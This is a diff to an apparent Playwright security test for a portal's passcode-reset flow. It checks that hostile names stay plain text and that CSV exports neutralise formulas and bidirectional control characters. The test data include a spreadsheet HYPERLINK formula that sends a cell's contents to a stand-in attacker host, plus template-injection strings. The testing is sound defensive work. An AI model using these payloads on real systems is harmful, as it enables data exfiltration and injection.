@@ -37,9 +37,12 @@ const COMPUTED = '=HYPERLINK("http://evil.example.test/?"&A1,"open me")';
 const BRACES = '{{constructor.constructor("planted=1")()}} ${window.planted=1} %s %n \u0001{0}';
 const LONG = 'W'.repeat(10_000);
 
+/** Characters that turn what stands beside them; isolated text is none of their business (UAX #9). */
+const TURNING = /[\u061C\u200E\u200F\u202A-\u202E]/;
+
 /** Nothing of a name has become more than text. */
 async function isHarmless(page, where) {
-  const found = await page.evaluate(() => {
+  const found = await page.evaluate((turning) => {
     const suspicious = 'img, script:not([src]):not([type]), iframe, object, embed, b, base, meta[http-equiv=refresh], [onerror], [onload], [onclick], [srcdoc]';
     const inPage = [...document.querySelectorAll(`body :is(${suspicious})`)].map((element) => element.outerHTML.slice(0, 200));
     const links = [...document.querySelectorAll('a[href]')].map((link) => link.getAttribute('href'));
@@ -47,12 +50,12 @@ async function isHarmless(page, where) {
       planted: globalThis.planted,
       inPage,
       links: links.filter((link) => !/^(\/(?!\/)|#|https?:\/\/localhost\/|mailto:|tel:)/.test(link)),
-      turning: /[\u061C\u200E\u200F\u202A-\u202E]/.test(document.title + document.body.innerText),
+      turning: [...document.querySelectorAll('title, body, body *')].filter((element) => [...element.childNodes, ...element.attributes].some((node) => node.nodeType !== Node.ELEMENT_NODE && new RegExp(turning).test(node.nodeValue))).map((element) => element.outerHTML.slice(0, 200)),
       unbalanced: [...document.querySelectorAll('body *')].filter((element) => element.children.length === 0)
         .map((element) => element.textContent).filter((text) => (text.match(/\u2068/g) ?? []).length !== (text.match(/\u2069/g) ?? []).length),
     };
-  });
-  expect(found, where).toEqual({ planted: undefined, inPage: [], links: [], turning: false, unbalanced: [] });
+  }, TURNING.source);
+  expect(found, where).toEqual({ planted: undefined, inPage: [], links: [], turning: [], unbalanced: [] });
   const before = page.viewportSize();
   await page.setViewportSize({ width: 320, height: 720 });
   expect(await sidewaysOverflow(page), `sideways scrolling: ${where}`).toBeLessThanOrEqual(0);
@@ -78,10 +81,9 @@ for (const [what, name] of [
     await portal.leaveForSignIn();
     await portal.provider.fill('aiko');
     await portal.isAt(`/devices/${ANDROID}/reset-passcode`);
-    const last = portal.main.locator('form button, .commands button, button.primary').first();
-    await expect(last).toBeVisible();
+    await expect(portal.lastButton).toBeVisible();
     await isHarmless(page, 'last question');
-    await last.click();
+    await portal.lastButton.click();
     await portal.isDone();
     await isHarmless(page, 'result');
     await page.emulateMedia({ media: 'print' });
@@ -97,6 +99,7 @@ for (const [what, name] of [
     const csv = await readFile(await (await download).path(), 'utf8');
     // A cell that a spreadsheet would compute begins with an apostrophe.
     expect(csv).not.toMatch(/(^|,)"\s*[=+\-@]/m);
+    expect(csv).not.toMatch(TURNING);
     expect(csv).toContain(name === COMPUTED ? `"'=HYPERLINK(""http` : '"');
     await portal.signOut();
     await isHarmless(page, 'signed out');
